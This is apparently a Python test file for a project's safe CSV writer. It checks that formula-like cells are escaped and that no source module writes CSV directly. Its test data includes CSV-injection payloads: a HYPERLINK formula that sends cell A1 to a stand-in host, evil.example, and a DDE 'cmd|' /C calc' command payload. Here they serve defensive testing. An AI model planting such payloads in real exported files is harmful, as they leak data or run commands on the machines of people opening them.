"""The shared safe CSV writer neutralises formula cells, and nothing in ``src`` bypasses it."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from urikake.domain import safe_csv

SRC = Path(__file__).resolve().parents[2] / "src" / "urikake"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"株式会社デモ運送")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+81 3 1234", "'+81 3 1234"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("株式会社デモ運送", "株式会社デモ運送"),
        ("a=b", "a=b"),
        ("", ""),
        ("-1200", "-1200"),  # a plain signed number stays a number
        ("+3.5", "+3.5"),
        (-1200, -1200),
        (Decimal("-0.5"), Decimal("-0.5")),
        (None, None),
    ],
)
def test_safe_cell(cell: object, written: object) -> None:
    assert safe_csv.safe_cell(cell) == written


def test_writers_neutralise_every_cell() -> None:
    out = io.StringIO()
    w = safe_csv.writer(out, lineterminator="\r\n")
    w.writerow(["顧客", EVIL, -5])
    w.writerows([["@x", "ok"]])
    assert out.getvalue().startswith("顧客,")
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["顧客", "'" + EVIL, "-5"],
        ["'@x", "ok"],
    ]
    out = io.StringIO()
    d = safe_csv.dict_writer(out, ["name", "amount"], lineterminator="\n")
    d.writeheader()
    d.writerow({"name": "=1+1", "amount": 3})
    assert out.getvalue() == "name,amount\n'=1+1,3\n"


def test_no_csv_writer_outside_the_shared_module() -> None:
    direct = re.compile(
        r"\bcsv\s*\.\s*(writer|DictWriter)\b|\bfrom\s+csv\s+import\b[^\n]*\b(writer|DictWriter)\b"
    )
    offenders = [
        f"{path.relative_to(SRC)}:{n}"
        for path in SRC.rglob("*.py")
        if path.name != "safe_csv.py"
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if direct.search(line)
    ]
    assert offenders == [], f"write CSV through urikake.domain.safe_csv: {offenders}"
